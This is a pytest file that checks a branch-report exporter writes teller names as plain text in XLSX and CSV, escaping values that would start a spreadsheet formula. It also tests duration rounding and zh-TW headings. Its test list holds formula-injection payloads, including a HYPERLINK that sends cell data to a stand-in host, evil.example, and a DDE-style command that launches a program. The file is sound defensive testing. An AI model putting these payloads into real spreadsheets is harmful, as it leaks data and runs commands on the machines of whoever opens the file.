"""Report exports write people's text as text, never as a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import sys
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest

from server.reports import export, words
from server.reports.summary import COLUMNS

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def report(keys: list[str | None]) -> dict:
    figures = dict.fromkeys(COLUMNS[1:], 0) | {"wait_avg_s": 12.5, "sla_share": None}
    return {
        "branch": "demo", "from": "2026-03-02", "to": "2026-03-02", "timezone": "Asia/Shanghai",
        "group": "teller", "rows": [{**figures, "key": k} for k in keys], "total": {**figures, "key": None},
    }


def test_xlsx_writes_a_teller_named_like_a_formula_as_plain_text():
    body = export.to_xlsx(report([*EVIL, "teller3", None]))
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book.active
    keys = [sheet.cell(row=r, column=1) for r in range(4, 4 + len(EVIL) + 1)]
    assert [c.value for c in keys] == [*EVIL, "teller3"]
    assert all(c.data_type == "s" for c in keys), [(c.value, c.data_type) for c in keys]
    assert all(c.hyperlink is None for c in keys)
    wait = sheet.cell(row=4, column=1 + COLUMNS.index("wait_avg_s"))
    assert wait.value == timedelta(seconds=12) and wait.data_type != "s", "figures stay numbers"


@pytest.mark.parametrize("name", EVIL)
def test_csv_escapes_text_that_would_start_a_formula(name):
    text = export.to_csv(report([name, "teller3"]), "en")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["Teller"] == "'" + name
    assert rows[1]["Teller"] == "teller3", "ordinary text untouched"
    assert rows[0]["Wait avg"] == "0:00:12"


def test_the_scorecard_and_staffing_sheets_write_text_as_text():
    tellers = {"tellers": [{"teller": name, "served": 1} for name in EVIL]}
    body = export.to_xlsx(report(["teller3"]), "en", tellers=tellers, staffing={"rows": []})
    sheet = openpyxl.load_workbook(io.BytesIO(body))["tellers"]
    keys = [sheet.cell(row=r, column=1) for r in range(4, 4 + len(EVIL))]
    assert [c.value for c in keys] == EVIL and all(c.data_type == "s" for c in keys)


@pytest.mark.parametrize(("seconds", "shown"), [(239.6, "0:04:00"), (59.5, "0:01:00"), (3599.7, "1:00:00"),
                                                (0.4, "0:00:00"), (460.0, "0:07:40")])
def test_durations_are_rounded_to_the_second_before_they_are_split(seconds, shown):
    assert export.hms(seconds) == shown


def test_zh_tw_headings_are_the_reviewed_drafts_of_the_zh_cn_ones():
    sys.path.insert(0, str(Path(__file__).parents[2] / "scripts"))
    try:
        from zh_tw import draft
    finally:
        sys.path.pop(0)
    cn, tw = words.table("zh-CN"), words.table("zh-TW")
    assert {k: draft(v) for k, v in cn.items() if draft(v) != tw[k]} == {}
